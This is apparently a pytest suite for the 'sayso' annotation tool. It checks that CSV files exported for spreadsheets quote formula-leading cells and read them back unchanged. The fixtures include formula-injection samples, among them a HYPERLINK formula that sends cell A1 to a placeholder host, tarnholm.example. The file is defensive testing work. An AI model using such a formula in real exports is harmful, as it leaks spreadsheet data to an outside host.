"""CSV for spreadsheets: no cell of it is run as a formula, and read back it says what it said."""

import csv
import io
import json

import pytest
from builders import run_sayso
from hypothesis import given
from hypothesis import strategies as st
from typer.main import get_command

from sayso.classify.audit.roster_file import read_roster
from sayso.cli import app
from sayso.data.commands.help import RAW_CELLS, SAFE_CELLS
from sayso.data.rows.files import read_rows
from sayso.data.settings.options import options_of
from sayso.data.tabular.spreadsheets import BOM, csv_text, quoted, unquoted

STARTS = ("=", "+", "-", "@", "\t", "\r", "＝", "＋", "－", "＠")
CALL = '=HYPERLINK("http://tarnholm.example/?x="&A1,"open")'
TEXT = f"{CALL} The ferry waited, the harbour office said. -2 degrees were measured on deck."


def cells_of(path):
    """Give all cells of a table, its header first."""
    with open(path, encoding="utf-8-sig", newline="") as stream:
        return list(csv.reader(stream))


def formulas(path, numbers=()):
    """Give the cells that a spreadsheet would run, but for those of columns of numbers of ours."""
    header, *rows = cells_of(path)
    kept = [at for at, name in enumerate(header) if name not in numbers]
    return [row[at] for row in [header, *rows] for at in kept if row[at].startswith(STARTS)]


@pytest.mark.parametrize("start", STARTS)
def test_each_beginning_of_a_formula_is_quoted_and_comes_back(start):
    for cell in (f"{start}1+1", f"'{start}1", f"''{start}"):
        assert quoted(cell) == f"'{cell}"
        assert unquoted(quoted(cell)) == cell


@given(st.text() | st.text("'=+;\n\t\ra"))
def test_what_is_quoted_comes_back(cell):
    assert unquoted(quoted(cell)) == cell
    assert not quoted(cell).startswith(STARTS)


@pytest.mark.parametrize("before", ["a;", "a\n", "a;;", "a\n\n"])
def test_no_formula_begins_where_a_spreadsheet_may_divide_a_cell(before):
    assert quoted(f"{before}=1;-2") == f"{before}'=1;'-2"
    assert unquoted(f"{before}'=1;'-2") == f"{before}=1;-2"
    assert quoted("a; -2 = b\n c") == "a; -2 = b\n c"


@given(st.lists(st.lists(st.text(st.characters(blacklist_characters="\0", blacklist_categories=["Cs"])), min_size=2)))
def test_rows_come_back_from_csv(rows):
    found = csv.reader(io.StringIO(csv_text(rows, end="\n"), newline=""))
    assert [[unquoted(cell) for cell in row] for row in found] == rows


@pytest.fixture
def table(tmp_path):
    """Give a table of articles whose cells are formulas."""
    path = tmp_path / "news.csv"
    rows = [["id", "text", "outlet", "title", "date", "=desk"], [CALL, TEXT, "@SUM(A1)", "+1", "-", "＝2"]]
    path.write_text(csv_text(rows, safe=False), encoding="utf-8")
    return path


def test_annotations_for_excel_hold_no_formula_and_are_read_back_as_they_were(table, tmp_path, fake_model_options):
    plain, safe = tmp_path / "plain.csv", tmp_path / "safe.csv"
    figures = [tmp_path / "p.csv", tmp_path / "s.csv"]
    more = ["--profile", figures[0], "--shares", figures[1], "--by", "=desk"]
    assert run_sayso("annotate", table, *fake_model_options, "--out", plain).exit_code == 0
    assert run_sayso("annotate", table, *fake_model_options, "--out", safe, *more, "--excel").exit_code == 0
    assert formulas(plain)
    assert [formulas(path) for path in (safe, *figures)] == [[], [], []]
    assert all(path.read_text("utf-8").startswith(BOM) for path in (safe, *figures))
    assert [row for _, row in read_rows(safe)] == [row for _, row in read_rows(plain)]
    assert {tuple(row[:2]) for row in cells_of(figures[1])[1:]} == {("", ""), ("'=desk", "'＝2")}


def test_a_dataset_of_annotations_for_excel_has_the_text_of_the_articles(table, tmp_path, fake_model_options):
    safe, out = tmp_path / "safe.csv", tmp_path / "rows.jsonl"
    assert run_sayso("annotate", table, *fake_model_options, "--out", safe, "--excel").exit_code == 0
    assert run_sayso("data", "export", safe, "--format", "jsonl", "--out", out).exit_code == 0
    rows = [json.loads(line) for line in out.read_text("utf-8").splitlines()]
    assert "".join(row.get("before", "") + row["text"] for row in rows) == TEXT
    assert {row["article"] for row in rows} == {CALL}


def test_articles_for_excel_are_read_as_they_were(table, tmp_path, fake_model_options):
    (safe := tmp_path / "safe.csv").write_text(BOM + csv_text(cells_of(table)), encoding="utf-8")
    done = run_sayso("annotate", safe, *fake_model_options, "--format", "jsonl")
    rows = [json.loads(line) for line in done.stdout.splitlines()]
    assert rows[0]["article"] == CALL
    assert [TEXT[row["start"] : row["end"]] for row in rows] == [row["text"] for row in rows]


def test_an_audit_holds_no_formula_and_its_roster_is_carried_on(table, tmp_path, fake_model_options):
    out = tmp_path / "audit"
    assert run_sayso("audit", table, *fake_model_options, "--out", out, "--by", "=desk", "--excel").exit_code == 0
    written = sorted(out.glob("*.csv"))
    assert {path.name for path in written} == {"groups.csv", "roster.csv", "sentences.csv", "shares.csv"}
    assert [formulas(path) for path in written] == [[]] * 4
    assert all(path.read_text("utf-8").startswith(BOM) for path in written)
    rows = cells_of(out / "roster.csv")
    rows = [[*rows[0], "'=note"], *([*row, "''+1"] for row in rows[1:])]
    (roster := tmp_path / "roster.csv").write_text(csv_text(rows, safe=False), encoding="utf-8")
    kept = read_roster(str(roster), print)
    assert kept.columns == ("=note",)
    assert {added["=note"] for _, added in kept.rows.values()} == {"'+1"}


def labelled(path, shift):
    """Write labels that are formulas; give the path."""
    rows = [
        {
            "article": f"-a{i}",
            "n": n,
            "text": f"=1 {name} waited.",
            "side": ("=yes", "@no")[(i + n + shift * (i % 3 == 0)) % 2],
            "outlet": "=o",
        }
        for i, name in enumerate(("Osk", "Vell", "Rusk", "Tarn", "Holt", "Mirn", "Dorn", "Pell"))
        for n in range(2)
    ]
    path.write_text("".join(json.dumps(row) + "\n" for row in rows), encoding="utf-8")
    return path


def test_tables_of_figures_and_tables_to_fill_in_hold_no_formula(tmp_path):
    a, b = labelled(tmp_path / "a.jsonl", 0), labelled(tmp_path / "b.jsonl", 1)
    shares, effects, sample, disputes, queue = (tmp_path / f"{name}.csv" for name in ("sh", "ef", "sa", "di", "qu"))
    calls = (
        ("shares", a, "--gold", b, "--column", "side", "--by", "outlet", "--out", shares, "--excel"),
        ("effects", a, "--gold", b, "--column", "side", "--label", "=yes", "--on", "n", "--out", effects),
        ("data", "sample", a, "--out", sample, "--n", "3", "--column", "side"),
        ("data", "agree", a, b, "--disputes", disputes),
        ("data", "suggest", a, "--column", "frame", "--out", queue),
    )
    for call in calls:
        assert run_sayso(*call).exit_code == 0, call
    numbers = ("corrected", "low", "high", "naive", "naive_low", "naive_high")
    assert [formulas(path, numbers) for path in (shares, effects, sample, disputes, queue)] == [[]] * 5
    assert shares.read_text("utf-8").startswith(BOM)
    assert {row["side"] for _, row in read_rows(labelled(tmp_path / "c.jsonl", 0))} == {"=yes", "@no"}
    assert {row["article"] for _, row in read_rows(disputes)} == {f"-a{i}" for i in (0, 3, 6)}


def test_excel_without_csv_is_refused_unless_a_settings_file_asks_for_it(tmp_path, monkeypatch, fake_model_options):
    (article := tmp_path / "a.txt").write_text("The ferry waited, the harbour office said.", encoding="utf-8")
    words = ("annotate", article, *fake_model_options, "--format", "jsonl")
    done = run_sayso(*words, "--excel")
    assert (done.exit_code, done.stdout) == (2, "")
    assert done.stderr.splitlines()[-1] == (
        "Error: Invalid value: --excel works only where CSV is written; choose a file that ends in .csv, or leave it out."
    )
    (settings := tmp_path / "sayso.toml").write_text("excel = true\n", encoding="utf-8")
    monkeypatch.setenv("SAYSO_CONFIG", str(settings))
    assert run_sayso(*words).exit_code == 0
    done = run_sayso("annotate", article, *fake_model_options, "--format", "csv")
    assert done.stdout.startswith(BOM)


def test_each_option_that_names_csv_says_whether_it_holds_formulas():
    unsaid = [
        f"{words} --{name}"
        for words, options in options_of(get_command(app)).items()
        for name, option in options.items()
        if name in {"out", "profile", "shares", "disputes", "report"}
        and "csv" in (option.parameter.help or "").lower()
        and not option.parameter.help.endswith((RAW_CELLS, SAFE_CELLS))
    ]
    assert unsaid == []
